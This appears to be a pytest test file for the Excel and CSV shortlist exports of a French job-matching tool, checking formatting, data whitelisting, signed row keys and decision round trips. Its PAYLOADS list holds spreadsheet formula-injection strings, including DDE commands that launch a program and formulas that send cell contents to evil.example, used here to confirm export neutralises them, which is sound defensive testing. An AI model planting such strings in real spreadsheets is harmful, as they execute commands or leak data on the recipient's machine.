"""Shortlist workbooks: formats, drop-downs, no formula ever, firm whitelist, CSV, round trip."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from matcher import fields as F
from matcher.errors import UserError
from matcher.export import shortlists as export
from matcher.export import workbooks
from matcher.workflow import review

from .review_world import STRUCTURE_A

SECRET = b"test-secret-0123456789abcdef0123"
GENERATED = dt.datetime(2026, 11, 28, 10, 30)

# Strings a spreadsheet could take for a formula or a command (OWASP CSV injection list and
# variants with leading spaces, tabs and line breaks).
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "+=1",
    "-=1",
    "@=1",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
]


def rows(n: int = 3, **overrides) -> pd.DataFrame:
    base = {
        F.OFFER_REF: [f"BUS-{i:03d}" for i in range(n)],
        F.EMPLOYER: ["Propreté Artois"] * n,
        F.TITLE: ["Agent(e) de propreté H/F"] * n,
        export.OFFER_COMMUNE: ["Béthune"] * n,
        F.START_DATE: [dt.date(2026, 12, 1)] * n,
        F.PROFILE_REF: [f"EI-{i:02d}" for i in range(n)],
        F.STRUCTURE: ["EI Artois"] * n,
        F.COUNSELLOR: ["Mme Durand (CIP)"] * n,
        F.AVAILABLE_FROM: [dt.date(2027, 1, 15)] + [None] * (n - 1),
        F.RANK: list(range(1, n + 1)),
        F.SCORE: [0.9, 0.5, 0.1][:n] + [0.3] * max(0, n - 3),
        F.DISTANCE_KM: [3.4, 12.0, None][:n] + [5.0] * max(0, n - 3),
        F.OCC_KIND: [4, 2, -1][:n] + [0] * max(0, n - 3),
        F.MATCHED_SKILLS: [["autolaveuse", "vitres"]] * n,
        F.MISSING_SKILLS: [["nettoyage des sols"]] * n,
        F.REASONS: [["Métier visé identique (K2204)", "2 compétences sur 3"]] * n,
        export.STATUS: ["suggested"] * n,
        export.DECISION_REASON: [None] * n,
        export.COMMENT: [None] * n,
        export.DECIDED_AT: [None] * n,
    }
    base.update(overrides)
    return pd.DataFrame(base)


def load(data: bytes, data_only: bool = False):
    return openpyxl.load_workbook(io.BytesIO(data), data_only=data_only)


def header_index(ws, header_row: int = 1) -> dict[str, int]:
    return {c.value: c.column for c in ws[header_row] if c.value}


@pytest.mark.parametrize("kind", ["firm", "structure", "coordinator"])
def test_every_workbook_is_formatted(kind):
    data = _build(kind, rows())
    wb = load(data)
    assert wb.sheetnames[0] == "Lisez-moi"
    readme = " ".join(str(c.value) for row in wb["Lisez-moi"].iter_rows() for c in row if c.value)
    assert "28/11/2026" in readme and "Peut être transmis à" in readme
    if kind == "firm":  # a firm never gets the ranking's internal settings
        assert "Poids des critères" not in readme and "pénalité" not in readme.lower()
    else:
        assert "Poids des critères compétences : 0,3" in readme  # the settings used, in French
    ws = wb.worksheets[2] if kind == "coordinator" else wb.worksheets[-1]
    h = 2 if kind == "coordinator" else 1
    cols = header_index(ws, h)
    assert ws.freeze_panes == f"A{h + 1}"
    assert ws.auto_filter.ref.startswith(f"A{h}:")
    assert ws.print_title_rows == f"${h}:${h}"
    assert ws.page_setup.orientation == "landscape"
    score = ws.cell(row=h + 1, column=cols["Score"])
    assert score.value == pytest.approx(0.9) and score.number_format == "0%"
    assert any("Score" in str(ws.cell(row=h, column=cols["Score"]).value) for _ in [0])
    ranges = [str(r.sqref) for r in ws.conditional_formatting]
    letter = openpyxl.utils.get_column_letter(cols["Score"])
    assert any(r.startswith(f"{letter}{h + 1}") for r in ranges)  # colour scale on the score
    validations = ws.data_validations.dataValidation
    formulas = " ".join(v.formula1 for v in validations)
    assert "Proposé à l'employeur" in formulas and "Embauché" in formulas
    assert "poste pourvu" in formulas
    widths = [
        ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width for j in cols.values()
    ]
    assert all(8 <= w <= 70 for w in widths if w)
    key_col = openpyxl.utils.get_column_letter(cols[export.KEY_HEADER])
    assert ws.column_dimensions[key_col].hidden


def test_dates_are_date_cells_in_french_format():
    wb = load(export.structure_workbook(rows(), SECRET, generated=GENERATED))
    ws = wb["Suggestions"]
    cols = header_index(ws)
    cell = ws.cell(row=2, column=cols["Début du poste"])
    assert cell.value == dt.datetime(2026, 12, 1) and cell.number_format == "DD/MM/YYYY"
    reasons = ws.cell(row=2, column=cols["Pourquoi"])
    assert reasons.alignment.wrap_text
    assert reasons.value == "Métier visé identique (K2204)\n2 compétences sur 3"


def test_firm_sheet_content():
    wb = load(export.firm_workbook(rows(), SECRET, generated=GENERATED))
    ws = wb["Candidats"]
    cols = header_index(ws)
    assert list(cols)[:-1] == [export.COLUMN_DOC[c][0] for c in export.FIRM_COLUMNS]
    values = {h: ws.cell(row=2, column=j).value for h, j in cols.items()}
    assert values["Lien métier"] == "Même métier"
    assert values["Trajet"] == "3 km"
    assert values["Disponibilité"] == "15/01/2027"
    assert values["Décision"] == "Suggéré"
    third = {h: ws.cell(row=4, column=j).value for h, j in cols.items()}
    assert third["Lien métier"] == "Non déterminé" and third["Trajet"] == "inconnu"
    assert third["Disponibilité"] == "immédiate"


def _build(kind: str, frame: pd.DataFrame) -> bytes:
    settings = {"weights": {"skills": 0.3}}
    if kind == "firm":
        return export.firm_workbook(frame, SECRET, settings, GENERATED)
    if kind == "structure":
        return export.structure_workbook(frame, SECRET, settings, GENERATED)
    offers = frame[[F.OFFER_REF, F.EMPLOYER, F.TITLE]].drop_duplicates(F.OFFER_REF)
    offers = offers.assign(**{F.COMMUNE: "Béthune"})
    return export.coordinator_workbook(frame, offers, SECRET, settings, GENERATED)


@pytest.mark.parametrize("kind", ["firm", "structure", "coordinator"])
def test_no_cell_is_ever_a_formula(kind):
    n = len(PAYLOADS)
    frame = rows(
        n,
        **{
            F.TITLE: PAYLOADS,
            F.EMPLOYER: PAYLOADS,
            F.COUNSELLOR: PAYLOADS,
            F.PROFILE_REF: [f"{p}#{i}" for i, p in enumerate(PAYLOADS)],
            F.MATCHED_SKILLS: [[p] for p in PAYLOADS],
            F.REASONS: [[p] for p in PAYLOADS],
            export.COMMENT: PAYLOADS,
        },
    )
    data = _build(kind, frame)
    wb = load(data)
    formulas = [
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.data_type != "s")
    ]
    assert formulas == []
    # No <f> element anywhere in the sheets' XML: Excel would evaluate it.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    # Every payload reads back as the same text, marked as text (quote prefix).
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    for p in PAYLOADS:
        assert p in texts or p.replace("\r", "\n") in texts, repr(p)
    ws = wb.worksheets[-1]
    quoted = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)
              and export.is_formula_like(c.value)]  # fmt: skip
    assert quoted and all(c.quotePrefix for c in quoted)


def test_control_characters_and_long_cells():
    long = "x" * 40_000
    frame = rows(2, **{F.TITLE: ["Agent\x00 de\x07 propreté\x1f", long]})
    wb = load(export.structure_workbook(frame, SECRET, generated=GENERATED))
    ws = wb["Suggestions"]
    cols = header_index(ws)
    titles = [ws.cell(row=r, column=cols["Poste"]).value for r in (2, 3)]
    assert "Agent de propreté" in titles
    cut = next(t for t in titles if t.startswith("xxx"))
    assert len(cut) == export.EXCEL_MAX_CELL and cut.endswith(export.CUT_MARK)


def test_firm_workbook_carries_no_other_profile_field():
    """Every profile field filled with a marker goes through the real pipeline (import-like
    frames -> rank -> store -> shortlist rows -> firm workbook): no marker may come out, except
    the whitelisted counsellor."""
    from matcher.intake.report import ImportReport
    from matcher.ranking.suggest import rank
    from matcher.store.database import Store
    from matcher.workflow.service import shortlist_rows

    offers = pd.DataFrame({
        F.OFFER_REF: ["O1"], F.EMPLOYER: ["Propreté Artois"], F.TITLE: ["Agent de propreté"],
        F.SKILLS: ["autolaveuse; nettoyage des sols"], F.COMMUNE: ["Béthune"],
    })  # fmt: skip
    marked = {f: f"ZZMARK{f.upper()}ZZ" for f in F.PROFILE_FIELDS}
    profile = dict(marked)
    profile[F.TARGET_JOBS] = f"agent de propreté {marked[F.TARGET_JOBS]}"
    profile[F.SKILLS] = f"autolaveuse; {marked[F.SKILLS]}"
    profile[F.STRUCTURE] = "EI Artois"
    profile[F.PROFILE_REF] = "EI-01"
    profile[F.COMMUNE] = "Beuvry"
    profiles = pd.DataFrame([profile])
    import tempfile
    from pathlib import Path

    from matcher.workflow.auth import SYSTEM

    with tempfile.TemporaryDirectory() as tmp:
        store = Store(Path(tmp) / "db.sqlite3")
        store.save_offers(offers, ImportReport(kind="offers", source="o.xlsx"))
        store.save_profiles(profiles, ImportReport(kind="profiles", source="p.csv"))
        store.save_suggestions(rank(offers, profiles), {})
        rows = shortlist_rows(store, SYSTEM, offer_ref="O1")
        assert len(rows) == 1
        data = export.firm_workbook(rows, SECRET)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = b"".join(z.read(n) for n in z.namelist()).decode("utf-8", "replace")
    allowed = {F.COUNSELLOR}
    leaked = [f for f, m in marked.items() if m in xml and f not in allowed]
    assert leaked == []
    assert marked[F.COUNSELLOR] in xml  # the counsellor to call is there
    assert "EI-01" in xml


def test_csv_opens_with_right_columns_and_accents():
    data = export.shortlist_csv(rows(2, **{F.TITLE: ["=1+1", "Agent d'accueil"]}))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    frame = pd.read_csv(io.StringIO(text), sep=";", dtype=str, keep_default_na=False)
    assert list(frame.columns) == [export.COLUMN_DOC[c][0] for c in export.FIRM_COLUMNS]
    assert frame["Poste"].tolist() == ["'=1+1", "Agent d'accueil"]
    assert frame["Structure"].tolist() == ["EI Artois", "EI Artois"]
    assert frame["Compétences présentes"][0] == "autolaveuse\nvitres"
    assert frame["Décision"][0] == "Suggéré"


def _fill(data: bytes, decisions: dict[str, tuple[str, str | None, str | None]], reverse=True):
    """Fill the decision columns as a user would, after re-sorting the rows (reversed)."""
    wb = load(data)
    ws = wb.worksheets[-1]
    h = 2 if ws.title not in ("Candidats", "Suggestions") else 1
    cols = header_index(ws, h)
    body = [[c.value for c in row] for row in ws.iter_rows(min_row=h + 1)]
    if reverse:
        body = body[::-1]
    for i, values in enumerate(body, start=h + 1):
        for j, v in enumerate(values, start=1):
            ws.cell(row=i, column=j).value = v
        ref = values[cols["Réf. candidat"] - 1]
        if ref in decisions:
            status, reason, comment = decisions[ref]
            ws.cell(row=i, column=cols["Décision"]).value = status
            ws.cell(row=i, column=cols["Motif si non retenu"]).value = reason
            ws.cell(row=i, column=cols["Commentaire"]).value = comment
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue(), ws.title, cols, h


@pytest.mark.parametrize("kind", ["firm", "structure", "coordinator"])
def test_read_back_decisions_after_resorting(kind):
    # The coordinator's workbook has one sheet per offer: put the three rows on one offer.
    one_offer = kind == "coordinator"
    frame = rows(**{F.OFFER_REF: ["BUS-000"] * 3}) if one_offer else rows()
    data = _build(kind, frame)
    filled, sheet, _, h = _fill(data, {
        "EI-00": ("Proposé à l'employeur", None, "appel lundi"),
        "EI-02": ("Non retenu", "mobilité", None),
    })  # fmt: skip
    read = export.read_shortlist(filled, "retour.xlsx", SECRET)
    assert read.problems == [] and read.rows_read == 3
    got = read.decisions.set_index(F.PROFILE_REF)
    # Labels are read as written; the review module checks them when applying.
    assert got.at["EI-00", F.STATUS] == "Proposé à l'employeur"
    assert got.at["EI-00", F.COMMENT] == "appel lundi"
    assert got.at["EI-00", F.OFFER_REF] == "BUS-000"
    assert got.at["EI-00", review.BASE_STATUS] == "suggested"
    assert got.at["EI-00", review.EXPORTED_AT] == workbooks.iso_utc(GENERATED)
    assert got.at["EI-01", F.STATUS] == "Suggéré"  # untouched row
    assert got.at["EI-02", F.STATUS] == "Non retenu"
    assert got.at["EI-02", F.REASON] == "mobilité"
    assert got.at["EI-02", F.OFFER_REF] == ("BUS-000" if one_offer else "BUS-002")
    # Reversed: EI-02 (third row written) is now the first data row.
    assert got.at["EI-02", export.ROW] == h + 1 and got.at["EI-02", export.SHEET] == sheet


def test_altered_key_or_unknown_label_is_reported():
    data = export.firm_workbook(rows(), SECRET)
    wb = load(data)
    ws = wb["Candidats"]
    cols = header_index(ws)
    key = ws.cell(row=2, column=cols[export.KEY_HEADER]).value
    ws.cell(row=2, column=cols[export.KEY_HEADER]).value = key.replace("BUS-000", "BUS-001")
    ws.cell(row=3, column=cols["Décision"]).value = "Peut-être"
    buf = io.BytesIO()
    wb.save(buf)
    read = export.read_shortlist(buf.getvalue(), "retour.xlsx", SECRET)
    assert read.problems == [
        ("Candidats", 2, "BUS-000", "EI-00", "clé de la ligne absente ou modifiée, ligne ignorée")
    ]
    assert read.decisions[F.PROFILE_REF].tolist() == ["EI-01", "EI-02"]
    assert read.decisions[F.STATUS].tolist() == ["Peut-être", "Suggéré"]
    # Another database's secret does not validate the keys.
    other = export.read_shortlist(data, "x.xlsx", b"another-secret")
    assert len(other.problems) == 3 and other.decisions.empty


def test_a_file_that_is_not_a_shortlist_is_refused():
    wb = openpyxl.Workbook()
    wb.active.append(["Réf. offre", "Décision"])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(UserError, match="Clé"):
        export.read_shortlist(buf.getvalue(), "autre.xlsx", SECRET)
    with pytest.raises(UserError, match="pas une liste exportée lisible"):
        export.read_shortlist(b"not a workbook", "autre.xlsx", SECRET)


def test_coordinator_summary_and_one_sheet_per_offer():
    frame = rows(3, **{F.OFFER_REF: ["BUS-1", "BUS-1", "BUS/2"],
                       export.STATUS: ["retained", "suggested", "hired"]})  # fmt: skip
    wb = load(_build("coordinator", frame))
    assert wb.sheetnames == ["Lisez-moi", "Synthèse", "BUS-1", "BUS-2"]  # "/" is not allowed
    summary = wb["Synthèse"]
    cols = header_index(summary)
    by_ref = {summary.cell(row=r, column=1).value: r for r in range(2, summary.max_row + 1)}
    r1, r2, total = by_ref["BUS-1"], by_ref["BUS/2"], by_ref["Total"]
    assert summary.cell(row=r1, column=cols["Suggestions"]).value == 2
    assert summary.cell(row=r1, column=cols["Retenu par le conseiller"]).value == 1
    assert summary.cell(row=r2, column=cols["Embauché"]).value == 1
    assert summary.cell(row=total, column=cols["Suggestions"]).value == 3
    assert wb["BUS-1"]["A1"].value.startswith("BUS-1 – Agent(e) de propreté")
    assert wb["BUS-1"].max_row == 2 + 2


def test_sheet_names_are_valid_and_unique():
    used: set[str] = set()
    names = [
        export.unique_sheet_name(x, used) for x in ["A" * 40, "A" * 40, "x[1]:*?", "Lisez-moi"]
    ]
    assert all(len(n) <= 31 for n in names)
    assert len({n.lower() for n in names}) == 4
    assert names[2] == "x-1----"
    assert names[3] != "Lisez-moi"


def test_round_trip_through_the_store_applies_decisions(world):
    """A firm's workbook (re-sorted by the firm, one key tampered with) comes back through the
    coordinator: decisions applied, the tampered row refused, nothing else touched."""
    from matcher.workflow.service import import_decisions, shortlist_rows

    store, coord = world.store, world.coordinator
    review.decide(store, world.counsellor_a, "BUS-001", "A1", "retained")
    review.decide(store, world.counsellor_a, "BUS-001", "A2", "proposed")
    rows = shortlist_rows(store, coord, offer_ref="BUS-001", statuses=export.FIRM_STATUSES)
    assert sorted(rows[F.PROFILE_REF]) == ["A1", "A2"]  # not-yet-retained people stay home
    data = export.firm_workbook(rows, store.secret())
    filled, *_ = _fill(data, {"A1": ("Entretien", None, "RDV le 3/12"),
                              "A2": ("Embauché", None, None)})  # fmt: skip
    report = import_decisions(store, coord, filled, "retour_entreprise.xlsx")
    assert report.counts() == {"applied": 2, "unchanged": 0, "refused": 0}
    now = store.suggestions(coord, offer_ref="BUS-001", structure=STRUCTURE_A)
    assert now.set_index(F.PROFILE_REF)[F.STATUS].to_dict()["A1"] == "interview"
    assert now.set_index(F.PROFILE_REF)[F.STATUS].to_dict()["A2"] == "hired"
    # A tampered key is refused with its row; the other row is unchanged the second time.
    wb = load(filled)
    ws = wb["Candidats"]
    cols = header_index(ws)
    cell = ws.cell(row=2, column=cols[export.KEY_HEADER])
    cell.value = cell.value.replace("BUS-001", "BUS-002")
    buf = io.BytesIO()
    wb.save(buf)
    again = import_decisions(store, coord, buf.getvalue(), "retour_entreprise.xlsx")
    assert again.counts() == {"applied": 0, "unchanged": 1, "refused": 1}
    refused = next(o.text() for o in again.refused)
    assert "ligne 2" in refused and "clé de la ligne absente ou modifiée" in refused
